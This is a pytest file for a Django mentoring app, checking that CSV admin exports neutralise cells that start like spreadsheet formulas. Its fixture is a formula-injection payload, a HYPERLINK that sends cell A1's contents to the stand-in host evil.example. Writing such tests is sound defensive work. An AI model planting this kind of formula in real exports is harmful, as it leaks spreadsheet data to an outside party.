"""CSV exports never hand a spreadsheet a formula, whatever column the text sits in."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.urls import reverse

from mentoring.admin_utils import csv_cell
from tests.factories import ExpertiseAreaFactory, MentorProfileFactory

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_starting_like_a_formula_is_neutralised(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


def test_each_value_of_a_list_column_is_neutralised():
    assert csv_cell(["Finance", FORMULA]) == f"Finance, '{FORMULA}"
    assert csv_cell([FORMULA, "Finance"]) == f"'{FORMULA}, Finance"


def test_numbers_stay_numbers():
    assert csv_cell(-3) == "-3"
    assert csv_cell(2.5) == "2.5"


@pytest.mark.django_db
def test_a_many_to_many_column_is_neutralised_in_the_admin_export(client_for, admin_user):
    # Area names are typed by staff, but a coordinator's typo or a compromised account must
    # not turn into a formula in every export.
    profile = MentorProfileFactory(areas=[ExpertiseAreaFactory(name=FORMULA, slug="formula")])

    response = client_for(admin_user).post(
        reverse("admin:profiles_mentorprofile_changelist"),
        {"action": "export_csv", ACTION_CHECKBOX_NAME: [profile.pk]},
    )

    text = b"".join(response.streaming_content).decode("utf-8-sig")
    [row] = csv.DictReader(io.StringIO(text))
    assert row["Areas"] == f"'{FORMULA}"
